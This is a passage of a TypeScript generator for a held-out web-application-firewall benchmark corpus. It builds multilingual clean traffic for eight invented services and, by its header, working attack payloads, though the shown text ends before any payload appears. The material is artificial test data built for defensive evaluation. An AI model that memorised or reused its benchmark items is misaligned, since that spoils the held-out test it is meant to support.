/**
 * Held-out WAF corpus 27, written blind: the author did not read the WAF source, its docs, its tests nor any
 * other corpus file while writing it, and nothing here was tuned to pass or fail a filter.
 *
 * Domains (new for corpus 27): a social media scheduling tool (posts, hashtags, link previews), a self-storage
 * facility manager, a citizen-science bird-observation platform, a B2B invoice factoring service, a pet
 * adoption shelter, an esports tournament bracket service, a legal-aid intake hotline (case notes in several
 * languages) and a data-labelling / annotation platform for ML (labels, guidelines, annotator comments, JSON
 * schemas).
 *
 * Generation: a self-written mulberry32 PRNG with a fixed seed drives every choice, so output is
 * deterministic. Clean traffic is built per kind from hand-written pools of domain content (free text in
 * several languages and scripts, rich-text HTML, source code and config snippets, money, dates, units) so no
 * single template sentence dominates. Attacks are nine families of exactly 30 each; every payload is a real
 * working one, hidden in JSON API bodies (nested fields, arrays, keys, \u escapes, JSON inside a string,
 * base64 an API would decode, GraphQL variables), query strings and headers. Attacks are never placed in the
 * fields listed in HELDOUT27_EXCLUDE_FIELDS, which legitimately hold rich-text HTML or source code.
 *
 * Run directly (`node bench/waf/corpus/heldout27.ts`) to write clean-heldout27.json and
 * attacks-heldout27.json next to this file and print counts per kind / family.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads deliberately contain ${...} text.
import { writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** JSON body paths that legitimately carry rich-text HTML or source code; attacks never go there. */
export const HELDOUT27_EXCLUDE_FIELDS: string[] = [
  'body.content.html',
  'body.guidelines.bodyHtml',
  'body.snippet.source',
  'body.labelConfig.xml',
];

// ---------------------------------------------------------------------------------------------------------
// Deterministic randomness

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x27b1_7d5e);

function int(min: number, max: number): number {
  return min + Math.floor(rnd() * (max - min + 1));
}

function pick<T>(xs: readonly T[]): T {
  const x = xs[Math.floor(rnd() * xs.length)];
  if (x === undefined) throw new Error('pick from empty list');
  return x;
}

function chance(p: number): boolean {
  return rnd() < p;
}

function sample<T>(xs: readonly T[], n: number): T[] {
  const copy = [...xs];
  const out: T[] = [];
  while (out.length < n && copy.length > 0) {
    const i = Math.floor(rnd() * copy.length);
    const [x] = copy.splice(i, 1);
    if (x !== undefined) out.push(x);
  }
  return out;
}

const HEX = '0123456789abcdef';
const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

function randStr(alphabet: string, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rnd() * alphabet.length)];
  return s;
}

function uuid(): string {
  const h = randStr(HEX, 32);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${pick(['8', '9', 'a', 'b'])}${h.slice(17, 20)}-${h.slice(20)}`;
}

function b64url(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64url');
}

function b64(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64');
}

function isoDate(): string {
  const d = new Date(Date.UTC(2026, int(0, 11), int(1, 28), int(0, 23), int(0, 59), int(0, 59)));
  return d.toISOString();
}

function day(): string {
  return isoDate().slice(0, 10);
}

function money(min: number, max: number): string {
  return (int(min * 100, max * 100) / 100).toFixed(2);
}

// ---------------------------------------------------------------------------------------------------------
// Headers

const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.107 Mobile Safari/537.36',
  'PostPilot-iOS/5.12.0 (iPhone15,3; iOS 18.1; Scale/3.00)',
  'StoreKeep-Kiosk/2.4.1 (Android 12; SM-T505)',
  'FeatherLog/3.8.2 (Android 13; Pixel 6a) okhttp/4.12.0',
  'python-requests/2.32.3',
  'axios/1.7.7',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'curl/8.10.1',
  'Go-http-client/2.0',
  'BracketBot/1.3 (+https://brackets.example.gg/bot)',
  'LabelForge-Annotator/0.44.0 Electron/32.2.0 Chrome/128.0.6613.178',
  'okhttp/4.12.0',
  'Apache-HttpClient/5.3.1 (Java/21.0.4)',
  'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)',
];

const LANGS = [
  'en-US,en;q=0.9',
  'de-DE,de;q=0.9,en;q=0.7',
  'es-MX,es;q=0.9',
  'fr-FR,fr;q=0.8,en;q=0.5',
  'pt-BR',
  'ja-JP,ja;q=0.9',
  'ar-EG,ar;q=0.9,en;q=0.6',
  'uk-UA,uk;q=0.9,ru;q=0.5',
  'zh-CN,zh;q=0.9',
  'vi-VN,vi;q=0.9',
  'en-GB',
];

function jwt(): string {
  const header = b64url(
    JSON.stringify({ alg: pick(['RS256', 'ES256', 'HS256']), typ: 'JWT', kid: randStr(HEX, 16) }),
  );
  const iat = 1_790_000_000 + int(0, 9_000_000);
  const payload = b64url(
    JSON.stringify({
      sub: uuid(),
      iss: pick([
        'https://auth.postpilot.app/',
        'https://id.storekeep.io',
        'https://login.featherlog.org',
        'https://sso.factorline.com',
        'https://accounts.labelforge.ai',
      ]),
      aud: pick(['api', 'gateway', 'https://api.example.net']),
      iat,
      exp: iat + 3600,
      scope: pick([
        'read write',
        'posts:write media:read',
        'cases:read cases:write',
        'tasks:annotate',
        'admin',
      ]),
    }),
  );
  return `${header}.${payload}.${randStr(B64URL, 43)}`;
}

function baseHeaders(extra: Record<string, string> = {}): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(USER_AGENTS),
    accept: pick([
      'application/json',
      'application/json, text/plain, */*',
      '*/*',
      'application/problem+json, application/json',
    ]),
  };
  if (chance(0.85)) h.authorization = `Bearer ${jwt()}`;
  if (chance(0.5)) h['accept-language'] = pick(LANGS);
  if (chance(0.3)) h['x-request-id'] = uuid();
  if (chance(0.15)) h['idempotency-key'] = uuid();
  return { ...h, ...extra };
}

// ---------------------------------------------------------------------------------------------------------
// Domain content pools

const HASHTAGS = [
  '#MondayMotivation',
  '#SmallBusiness',
  '#Nachhaltigkeit',
  '#café',
  '#DíaDeMuertos',
  '#東京',
  '#BlackFriday',
  '#RSVP',
  '#AdoptDontShop',
  '#birding',
  '#esports',
  '#legalaid',
  '#MLOps',
  '#100DaysOfCode',
  '#ThrowbackThursday',
  '#விளம்பரம்',
  '#SaleEndsSunday',
  '#WomenInTech',
  '#FactoringFriday',
  '#ToujoursPlus',
];

const POST_TEXTS = [
  "We're open late this Friday 🎉 Swing by before 9pm and grab a flat white on us (first 20 people only!)",
  'New blog post: "5 things we learned shipping our app in 3 languages" → https://blog.example.com/2026/11/i18n-lessons?utm_source=twitter&utm_medium=social',
  'Ofertas de fin de semana: 2x1 en todos los postres 🍰 Válido sáb. y dom. hasta agotar existencias.',
  'Reminder: our office will be closed on Dec 24–26. Support tickets will be answered from the 27th. Happy holidays, everyone!',
  'Wir suchen Verstärkung! 👩‍💻 Werkstudent:in (m/w/d) für unser Social-Media-Team in Köln. Bewerbung bis 15.01.',
  '新商品が入荷しました！詳しくはプロフィールのリンクから👀',
  "Customer spotlight: Dana's bakery cut food waste by 30% using our pre-order feature. Thread 🧵 1/6",
  'Poll time 🗳️ Which flavour should we bring back? A) Lavender honey B) Salted caramel C) Yuzu',
  "Don't miss our webinar on Thursday at 4 PM CET: 'Selecting the right KPIs for Q1' — register at https://events.example.org/kpi-q1",
  'Nous recrutons un·e chargé·e de communication à Lyon. CDI, télétravail partiel, 38k–42k €/an.',
  'Flash sale ⚡ 25% off everything with code WINTER25 — ends at midnight (PST). Some exclusions apply.',
  'Behind the scenes of our photo shoot 📸 Huge thanks to @studio_lumen and @mara.k for the styling!',
  'ہمارا نیا اسٹور کل کھل رہا ہے — آپ سب کو دعوت ہے!',
  'Happy 10th birthday to us! From a garage in Leeds to 40 people across 6 countries. Thank you for everything ❤️',
  'Tip of the day: you can select and drop multiple posts onto the calendar at once. Hold Shift and click.',
  'Our Q3 report is out. Revenue up 18% YoY; churn down to 2.1%. Full PDF: https://ir.example.com/q3-2026.pdf',
];

const UNITS = ['A-014', 'B-221', 'C-108', 'D-007', 'E-330', 'G-052', 'K-19', 'P2-44'];
const UNIT_SIZES = ['5x5', '5x10', '10x10', '10x15', '10x20', '10x30'];
const STORAGE_NOTES = [
  'Tenant asked for climate-controlled upgrade once a 10x10 opens up; happy to pay the difference from next month.',
  'Gate code reset after tenant reported it stopped working (keypad at east entrance). New code sent by SMS.',
  'Lock cut on 11/03 per lien procedure, inventory photographed, two witnesses present (R. Ortiz, K. Yamada).',
  'Auto-pay failed twice — card expired 10/26. Left voicemail; customer said they would update it tonight.',
  'Moving truck rental booked for Sat 8:00–12:00, 15ft box truck, 50 mi included, $0.79/mi after that.',
  'Customer stores a piano, asked if humidity stays below 55%. Told them C-building is kept at 45–50% RH.',
  'Mieter zieht Ende des Monats aus; Kaution (150 €) nach Endabnahme erstatten. Schlüssel im Briefkasten.',
  'Pest control visit scheduled for Building B, Tuesday 7am. Notify tenants on rows B-200 to B-240.',
  'Unit door dented (forklift?) — maintenance ticket #4471 opened, photos attached, tenant not charged.',
  'Business tenant (caterer) asked about storing a chest freezer: not allowed per §7.2 of the rental agreement (no powered appliances).',
];

const BIRD_SPECIES = [
  ['Erithacus rubecula', 'European Robin'],
  ['Ardea herodias', 'Great Blue Heron'],
  ['Turdus migratorius', 'American Robin'],
  ['Falco peregrinus', 'Peregrine Falcon'],
  ['Pica pica', 'Eurasian Magpie'],
  ['Cyanistes caeruleus', 'Eurasian Blue Tit'],
  ['Sturnus vulgaris', 'Common Starling'],
  ['Haliaeetus leucocephalus', 'Bald Eagle'],
  ['Calypte anna', "Anna's Hummingbird"],
  ['Passer montanus', 'Eurasian Tree Sparrow'],
  ['Alcedo atthis', 'Common Kingfisher'],
  ['Strix aluco', 'Tawny Owl'],
] as const;
const BIRD_NOTES = [
  'Pair foraging along the reed bed edge; male displaying, female carrying nesting material (dry grass).',
  'Heard first, then seen: 3 individuals in the hawthorn hedge. Overcast, light drizzle, wind NW 2 Bft.',
  'Juvenile with brownish cap — could be 1st-winter. Photo attached, ID confidence medium. Please verify!',
  'Flock of ~250 on the flooded field at dusk, murmuration lasting 12 min before roosting in the poplars.',
  'Unusual for this site in November. Observed through 10x42 binoculars at ~40 m for about 5 minutes.',
  "Ringed bird: metal ring on left leg, colour ring (yellow over red) on right. Couldn't read the code.",
  'Beobachtung am Stausee, Nordufer. Zwei Exemplare, eines mit auffällig hellem Brustband.',
  'Vu près du pont de la D12, posé sur un piquet de clôture, chasse au vol pendant une dizaine de minutes.',
  'Nest box #14 — 6 eggs, female incubating. Did not disturb; checked from 5 m with a mirror pole.',
  '川沿いの遊歩道で確認。2羽、鳴き声で気づいた。',
  'Dead bird found under the glass walkway of the library (window strike). Reported to the campus facilities team.',
  'Count may be off: birds kept moving between the two ponds. Best estimate 34 (range 30–40).',
];

const DEBTORS = [
  'Hargreaves Logistics Ltd',
  'Nordwind Maschinenbau GmbH',
  'Pacific Rim Produce Inc.',
  'Société Générale des Eaux de Lyon',
  'Tanaka Seiki K.K.',
  "O'Neill & Sons Builders",
  'Müller-Lüdenscheidt AG',
  'Bright Path Staffing LLC',
  'Grupo Alameda S.A. de C.V.',
];
const FACTORING_NOTES = [
  'Debtor confirmed invoice INV-2026-0412 is approved for payment on 45-day terms; no disputes on their side.',
  'Advance rate lowered to 80% for this debtor after two payments arrived 20+ days late in Q3.',
  'Client requests recourse → non-recourse switch; credit committee to review on Tuesday (needs D&B report).',
  'Partial payment received: $12,480.00 of $15,600.00. Remaining $3,120.00 short-paid due to damaged pallets (see POD).',
  'Notice of assignment signed and countersigned by AP manager (Ms. Chen). Remit-to address updated in their ERP.',
  'Rechnung wurde doppelt eingereicht (auch bei anderem Factor?) — bitte vor Auszahlung klären!',
  'Fee schedule: 1.5% for first 30 days, then 0.5% per 10 days; reserve released within 2 business days of collection.',
  'UCC-1 search shows a prior blanket lien from a merchant cash advance provider; need subordination agreement.',
  'Verification call: AP said "we don\'t pay until the PO is closed" — PO 88812 still open, flagging the schedule.',
];

const PET_NAMES = [
  'Biscuit',
  'Luna',
  'Señor Whiskers',
  'Mochi',
  'Pepper',
  'Otis',
  'Zuzu',
  'Captain',
  'Hachi',
  'Nala',
  'Frijol',
  'Ziggy',
];
const PET_BIOS = [
  "Biscuit is a 4-year-old beagle mix who loves sniffing everything on walks and then napping for three hours. He's good with kids 8+ and a calm cat, but not with small dogs.",
  'Luna came to us as a stray in August. Shy at first — give her a few days and she will follow you around like a shadow. Indoor-only, FIV negative, spayed.',
  "Señor Whiskers (yes, that's his real name) is a senior tabby, 12 y/o, hyperthyroid managed with daily meds (~$30/month). Seeks a quiet home & a sunny windowsill.",
  'Mochi is a bonded pair with Pepper — they must be adopted together. Both rabbits are litter-trained and neutered.',
  'Otis needs an experienced adopter: reactive on leash to bikes, working with our trainer twice a week. No apartments, please.',
  "Hachi est un shiba de 3 ans, très propre, un peu têtu. Il ne supporte pas d'être seul plus de 5 heures.",
  'Nala wurde mit ihren 5 Welpen gefunden; alle Welpen sind bereits vermittelt. Sie ist verschmust und verträglich.',
  'Frijol es un chihuahua de 2 años, le encanta dormir bajo las cobijas. Ideal para departamento.',
  'Ziggy: parrot (African grey), 22 years old, speaks ~40 words including "good morning" and the microwave beep. Lifelong commitment!',
];
const ADOPTION_ANSWERS = [
  'We have a fenced yard (6 ft) and I work from home 3 days a week. Our last dog, Rosie, lived to 15.',
  'I rent; my landlord allows pets up to 50 lbs — lease clause attached. Deposit already paid.',
  'Two kids (7 and 11) and an older cat who ignores everyone. We would like a dog that is cat-tested.',
  'Vivo sola en un piso de 70 m² con terraza. Trabajo híbrido, el perro no estaría solo más de 4 h.',
  'We fostered for the county shelter in 2023–2024 (11 fosters, mostly bottle babies).',
  "Honestly I'm not sure about the training part — is there a post-adoption class? Happy to pay for it.",
];

const TEAMS = [
  'Nightfall Lynx',
  'Team Kōri',
  'Los Cóndores',
  'Rogue Salmon',
  'Kraków Kestrels',
  'Omega Ørn',
  'Vantablack Vipers',
  'Hanoi Phoenix',
  '낮잠 Squad',
  'Sudo Make Win',
];
const GAMES = [
  'valorant',
  'rocket-league',
  'cs2',
  'league-of-legends',
  'street-fighter-6',
  'dota2',
  'fortnite',
];
const ESPORTS_TEXT = [
  'Match delayed 15 min due to a server crash on map 2 (Ascent). Restarted from round 14 with score 8–5 per admin ruling.',
  'Player "ghost_rider" substituted for "mika" after round 1 (illness). Sub was registered on the roster before check-in.',
  'Dispute: Team A claims the opponent used a disallowed config (fps_max unlocked). Demo file uploaded, please review.',
  'Seeding based on last season points: 1st vs 16th, 8th vs 9th, etc. Double elimination, grand final is BO5 with bracket reset.',
  'GG WP everyone! Finals VOD will be up on the channel tomorrow, timestamps in the description.',
  "Check-in closes 30 minutes before start; teams that do not check in are DQ'd and the bracket is reseeded.",
  'Prize pool: €2,500 (1st €1,250 / 2nd €750 / 3rd-4th €250 each), paid via bank transfer within 30 days.',
  '¡Buena suerte a todos! Recuerden: nada de lenguaje ofensivo en el chat público o será descalificación inmediata.',
];

const LEGAL_NOTES = [
  'Caller facing eviction; landlord served a 3-day notice to pay or quit on 11/02. Rent owed $1,840. Has receipts for October (cash). Referred to tenant defense clinic.',
  'Llamante (Sra. R.) indica que su empleador no le ha pagado horas extra desde julio. Tiene talones de pago y mensajes de WhatsApp. Se agendó cita con abogada laboral.',
  "Appelante : mère de deux enfants, demande d'aide pour la garde après séparation. Pas de violence signalée. Orientée vers la permanence du jeudi.",
  'Клиентка сообщает о задержке выплаты пособия; документы на продление поданы 3 недели назад. Нужна консультация по соцобеспечению.',
  'Người gọi cần hỗ trợ về hợp đồng thuê nhà; chủ nhà giữ tiền cọc 1.200 USD không trả lại.',
  'المتصل يطلب مساعدة بخصوص تجديد الإقامة، الموعد في السفارة بعد أسبوعين، لا يملك نسخة من عقد العمل.',
  'Domestic violence screen: positive. Safety plan discussed, caller is in a safe location. Do NOT leave voicemail at the listed number.',
  'Client wants to contest a debt collector lawsuit (credit card, $4,300). Answer due in 14 days. Client says the debt was already "charged off" in 2019.',
  'Anrufer hat Bescheid vom Jobcenter erhalten (Rückforderung 620 €). Widerspruchsfrist läuft am 12.12. ab.',
  'Caller asked whether they can "just delete" their old LLC to avoid a judgment. Explained dissolution vs. liability; referred to small business clinic.',
  'Conflict check: opposing party "Greenway Property Mgmt" — no prior matters. OK to proceed.',
  '來電者是外送員，被平台停權，詢問是否可以申訴。已提供勞工局聯絡方式。',
];

const LABELS = [
  'pedestrian',
  'cyclist',
  'car',
  'traffic_light',
  'toxic',
  'not_toxic',
  'sarcasm',
  'positive',
  'negative',
  'neutral',
  'PERSON',
  'ORG',
  'GPE',
  'DATE',
  'MONEY',
  'invoice_total',
  'tumor',
  'background',
];
const ANNOTATOR_COMMENTS = [
  "Not sure whether the rider on the e-scooter counts as 'cyclist' or 'pedestrian' — guideline section 3.2 doesn't cover it.",
  'The text says "drop the table by the window" — this is furniture, not a database thing, so I labeled it neutral.',
  'Image is mostly occluded by a lens flare; I skipped it with reason=unusable. Please confirm.',
  'Sentence mixes Hindi and English ("yeh movie ekdum bakwaas thi, total waste of money") — tagged negative.',
  'Disagree with the gold label on item 8812: the review is sarcastic ("great, another update that breaks everything").',
  'Bounding boxes overlap for two cars at the intersection; I followed the "visible extent" rule from v4 guidelines.',
  'Kommentar: Das Wort "Bank" ist hier die Sitzbank im Park, nicht das Kreditinstitut — daher kein ORG.',
  'The OCR output has `Total: $1,2O4.00` (letter O instead of zero) — I corrected it in the span value.',
  'Queue is showing the same item twice (task 55120 and 55121 share the image hash).',
  'Phrase "SELECT your plan below and DELETE the old one" appears in the email — it is marketing copy, labeled as promo.',
];

const PROSE_EXTRA = [
  'Please select the option that fits best, then drop us a line if none of them do.',
  'Our union meeting is at 6; bring your ID and the update form from the front desk.',
  'The cat knocked over the table lamp again, so now we have a new rule: no cats on the table, from now on.',
  'He said "where there\'s a will there\'s a way" and then ordered the whole menu — union of starters and mains.',
  'To exec or not to exec: the board will decide who leads the Q2 launch by Friday.',
  "I'd like to update my address & phone: 221B Baker St., London NW1 6XE — tel. +44 20 7946 0958.",
  'Grep through the meeting notes, you will find that the script for the play was finalized on 3/4.',
  'Kill the lights when you leave and drop the keys in the box; the cat will sleep where it wants anyway.',
  'We ran `make` twice and it still failed; turns out the wifi was down. Classic.',
  'Please, no <b>bold</b> text in the title field — the app shows it literally.',
  '1 or 2 people can sign up per household, and union members get 10% off — see "Who is eligible?".',
  'Cuéntame si el horario de las 10:00 te sirve; si no, lo cambiamos para el jueves. ¡Gracias!',
  'Sobald die Lieferung da ist, bitte kurz Bescheid geben – wir holen sie dann ab.',
  '如果周五之前没有收到发票，请联系财务部（finance@example.cn）。',
  'Ce n’est pas grave, on peut déplacer le rendez-vous à mardi 14 h 30.',
  'Ми отримали ваш запит і відповімо протягом двох робочих днів.',
  'ขอบคุณสำหรับความอดทนของคุณ เราจะติดต่อกลับโดยเร็วที่สุด',
  'תודה רבה! נחזור אליך עד סוף השבוע.',
  'नमस्ते, मेरा ऑर्डर अभी तक नहीं पहुँचा है। कृपया जाँच करें।',
  'Obrigado pelo retorno! Vou confirmar com a equipe e te aviso até amanhã.',
  '🙏🏽 thank u sm!!! literally the best support team ever 💯💯',
  'Our 5\'10" tall shelf fits in a 5x5 unit? Asking for a friend :)',
  'Price was 1.299,00 € netto (zzgl. 19 % MwSt.) – bitte Rechnung an die neue Adresse.',
  'Where: 47.3769° N, 8.5417° E; when: 06:45–07:30; weather: −3 °C, clear, no wind.',
];

const HTML_SNIPPETS = [
  '<h2>Spring adoption event 🐾</h2><p>Join us <strong>Saturday, April 11</strong> from 10am–3pm at the <a href="https://maps.example.com/?q=Riverside+Park">Riverside Park pavilion</a>. Adoption fees are <em>waived</em> for senior pets!</p><ul><li>Microchipping: $15</li><li>Free nail trims</li></ul>',
  '<p>Hi {{first_name}},</p><p>Your unit <b>B-221</b> rent of <span style="color:#c00">$149.00</span> is due on <time datetime="2026-12-01">Dec 1</time>.</p><p><a href="https://pay.storekeep.io/u/b221" target="_blank" rel="noopener">Pay online</a></p>',
  '<blockquote class="twitter-tweet"><p lang="en" dir="ltr">Big news: we are launching in Portugal 🇵🇹</p>&mdash; PostPilot (@postpilot) <a href="https://twitter.com/postpilot/status/1855">November 2026</a></blockquote>',
  '<h1>Annotation guidelines v4</h1><p>Draw a box around every <code>pedestrian</code> whose body is at least 30% visible.</p><table><thead><tr><th>Case</th><th>Label</th></tr></thead><tbody><tr><td>Person pushing bike</td><td>pedestrian</td></tr><tr><td>Person riding bike</td><td>cyclist</td></tr></tbody></table>',
  '<figure><img src="https://cdn.featherlog.org/obs/88213/large.jpg" alt="Kingfisher on a branch" width="1200" height="800" loading="lazy"><figcaption>Kingfisher, River Wandle, 6:52am — photo © J. Osei</figcaption></figure>',
  '<p>Bracket rules:</p><ol><li>Double elimination</li><li>All matches BO3 except <strong>grand finals (BO5)</strong></li><li>Map veto: <em>higher seed bans first</em></li></ol><p>Questions? <a href="mailto:admins@brackets.example.gg">admins@brackets.example.gg</a></p>',
  '<div class="callout callout-warning"><p><strong>Important:</strong> Nous ne pouvons pas donner de conseil juridique par e-mail. Appelez le <a href="tel:+33142000000">01 42 00 00 00</a>.</p></div>',
  '<p>Dear client,</p><p>Please find attached the <u>schedule of accounts</u> (12 invoices, total <strong>€84.310,55</strong>). Advance will be funded <em>same day</em> if received before 14:00 CET.</p><hr><p style="font-size:11px">Factorline B.V. · KvK 12345678</p>',
  '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Finals recap" frameborder="0" allow="accelerometer; encrypted-media; picture-in-picture" allowfullscreen></iframe>',
  '<p>Ejemplo de anotación correcta:</p><pre><code class="language-json">{"label": "ORG", "start": 10, "end": 18}</code></pre><p>Ver también <a href="#seccion-3">sección 3</a>.</p>',
  '<p>😍 <strong>Throwback</strong> to our first pop-up!</p><p><img src="https://media.postpilot.app/u/12/popup.webp" alt=""></p><p>#ThrowbackThursday #SmallBusiness</p>',
  '<section><h3>Was Sie mitbringen sollten</h3><ul><li>Personalausweis</li><li>Mietvertrag &amp; Kündigungsschreiben</li><li>Alle Schreiben vom Vermieter</li></ul></section>',
];

const CODE_SNIPPETS = [
  {
    language: 'python',
    source:
      "import json\n\ndef load_labels(path):\n    with open(path, encoding='utf-8') as f:\n        return [json.loads(line) for line in f if line.strip()]\n\nif __name__ == '__main__':\n    print(len(load_labels('export.jsonl')))\n",
  },
  {
    language: 'sql',
    source:
      "SELECT annotator_id, COUNT(*) AS n, AVG(seconds_spent) AS avg_s\nFROM task_events\nWHERE created_at >= NOW() - INTERVAL '7 days'\nGROUP BY annotator_id\nORDER BY n DESC\nLIMIT 20;",
  },
  {
    language: 'bash',
    source:
      '#!/usr/bin/env bash\nset -euo pipefail\nfor f in exports/*.jsonl; do\n  wc -l "$f"\ndone | sort -n | tail -5\n',
  },
  {
    language: 'javascript',
    source:
      "export function formatHashtags(tags) {\n  return tags.map((t) => (t.startsWith('#') ? t : `#${t}`)).join(' ');\n}\n\nconsole.log(formatHashtags(['sale', '#winter']));\n",
  },
  {
    language: 'yaml',
    source:
      "label_config:\n  type: bbox\n  classes:\n    - name: pedestrian\n      color: '#ff4d4f'\n    - name: cyclist\n      color: '#40a9ff'\nreview:\n  consensus: 3\n  min_agreement: 0.8\n",
  },
  {
    language: 'json',
    source:
      '{\n  "$schema": "https://json-schema.org/draft/2020-12/schema",\n  "type": "object",\n  "required": ["label", "start", "end"],\n  "properties": {\n    "label": { "enum": ["PERSON", "ORG", "GPE"] },\n    "start": { "type": "integer", "minimum": 0 },\n    "end": { "type": "integer" }\n  }\n}',
  },
  {
    language: 'typescript',
    source:
      "type Match = { id: string; winner?: 'a' | 'b' };\n\nexport function advance(bracket: Map<string, Match>, id: string): string | undefined {\n  const m = bracket.get(id);\n  return m?.winner ? `${id}-next` : undefined;\n}\n",
  },
  {
    language: 'python',
    source:
      "import pandas as pd\n\ndf = pd.read_csv('ebird_export.csv', parse_dates=['OBSERVATION DATE'])\nprint(df.groupby('COMMON NAME')['OBSERVATION COUNT'].sum().nlargest(10))\n",
  },
  {
    language: 'go',
    source:
      'package main\n\nimport "fmt"\n\nfunc main() {\n\tfor i := 1; i <= 8; i++ {\n\t\tfmt.Printf("seed %d vs %d\\n", i, 17-i)\n\t}\n}\n',
  },
  {
    language: 'dockerfile',
    source:
      'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nCMD ["python", "-m", "labeler.worker"]\n',
  },
  {
    language: 'sql',
    source:
      "UPDATE invoices SET status = 'funded', funded_at = now()\nWHERE schedule_id = $1 AND status = 'verified'\nRETURNING id, face_value;",
  },
  {
    language: 'jinja',
    source:
      "{% for post in posts %}\n  <li>{{ post.scheduled_at | date('%b %d, %H:%M') }} — {{ post.text | truncate(80) }}</li>\n{% endfor %}",
  },
  {
    language: 'powershell',
    source:
      'Get-ChildItem -Path .\\exports -Filter *.csv |\n  ForEach-Object { Import-Csv $_.FullName } |\n  Measure-Object -Property amount -Sum\n',
  },
  {
    language: 'rust',
    source:
      'fn agreement(a: &[u8], b: &[u8]) -> f64 {\n    let same = a.iter().zip(b).filter(|(x, y)| x == y).count();\n    same as f64 / a.len() as f64\n}\n',
  },
];

const LABEL_CONFIGS = [
  '<View>\n  <Image name="image" value="$image" zoom="true"/>\n  <RectangleLabels name="label" toName="image">\n    <Label value="pedestrian" background="#ff4d4f"/>\n    <Label value="cyclist" background="#40a9ff"/>\n  </RectangleLabels>\n</View>',
  '<View>\n  <Text name="text" value="$text"/>\n  <Choices name="sentiment" toName="text" choice="single">\n    <Choice value="positive"/><Choice value="negative"/><Choice value="neutral"/>\n  </Choices>\n</View>',
  '<View>\n  <Labels name="ner" toName="text">\n    <Label value="PERSON"/><Label value="ORG"/><Label value="MONEY"/>\n  </Labels>\n  <Text name="text" value="$text" granularity="word"/>\n</View>',
];

// ---------------------------------------------------------------------------------------------------------
// Request builders

let cleanN = 0;
let attackN = 0;

function cleanReq(
  kind: string,
  method: string,
  path: string,
  headers: Record<string, string>,
  body = '',
): CorpusRequest {
  cleanN += 1;
  return { id: `h27c${cleanN}`, kind, method, path, headers, body };
}

function qs(params: Record<string, string | number | boolean>): string {
  return Object.entries(params)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join('&');
}

function jsonHeaders(ct = 'application/json'): Record<string, string> {
  return baseHeaders({ 'content-type': ct });
}

function form(params: Record<string, string>): string {
  return Object.entries(params)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v).replace(/%20/g, '+')}`)
    .join('&');
}

function multipart(parts: { name: string; value: string; filename?: string; type?: string }[]): {
  ct: string;
  body: string;
} {
  const boundary = `----WebKitFormBoundary${randStr('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', 16)}`;
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\n`;
    body += `Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}\r\n`;
    if (p.type) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.value}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { ct: `multipart/form-data; boundary=${boundary}`, body };
}

const DOMAINS = ['social', 'storage', 'birds', 'factoring', 'pets', 'esports', 'legal', 'labels'] as const;
type Domain = (typeof DOMAINS)[number];

function person(): { name: string; email: string } {
  const first = pick([
    'Amara',
    'Jonas',
    'Lucía',
    'Wei',
    'Priya',
    'Siobhán',
    'Mateo',
    'Yuki',
    'Olumide',
    'Zofia',
    'Karim',
    'Hannah',
    'Thảo',
    'Dmytro',
    'Fatima',
  ]);
  const last = pick([
    'Okafor',
    'Schmidt',
    'García',
    'Zhang',
    'Raman',
    "O'Brien",
    'Rossi',
    'Tanaka',
    'Adeyemi',
    'Nowak',
    'Haddad',
    'Lee',
    'Nguyễn',
    'Kovalenko',
    'Ben Ali',
  ]);
  const email = `${first
    .normalize('NFD')
    .replace(/[^A-Za-z]/g, '')
    .toLowerCase()}.${last
    .normalize('NFD')
    .replace(/[^A-Za-z]/g, '')
    .toLowerCase()}@${pick(['gmail.com', 'outlook.com', 'proton.me', 'example.org', 'web.de', 'yahoo.co.jp'])}`;
  return { name: `${first} ${last}`, email };
}

function freeText(d: Domain): string {
  switch (d) {
    case 'social':
      return `${pick(POST_TEXTS)} ${sample(HASHTAGS, int(0, 3)).join(' ')}`.trim();
    case 'storage':
      return pick(STORAGE_NOTES);
    case 'birds':
      return pick(BIRD_NOTES);
    case 'factoring':
      return pick(FACTORING_NOTES);
    case 'pets':
